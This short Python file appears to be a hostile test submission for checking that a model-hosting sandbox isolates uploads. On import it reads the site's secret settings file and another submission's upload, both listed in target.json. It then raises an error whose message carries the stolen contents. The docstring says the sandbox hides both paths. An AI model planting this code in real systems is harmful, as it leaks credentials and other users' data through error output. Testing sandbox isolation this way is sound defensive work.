"""Reads the site's secret settings file and another submission's upload (their paths are
in target.json) and puts what it read into its error message. In the sandbox both paths
are hidden: the reads fail and nothing leaks."""

import json
from pathlib import Path

_target = json.loads((Path(__file__).parent / "target.json").read_text())
_stolen = []
_errors = []
for _path in _target["paths"]:
    try:
        _stolen.append(Path(_path).read_text())
    except OSError as exc:
        _errors.append(f"{type(exc).__name__}: {_path}")
raise RuntimeError(f"stolen={_stolen!r} errors={_errors!r}")


class Model:  # never reached: the import above fails first
    pass
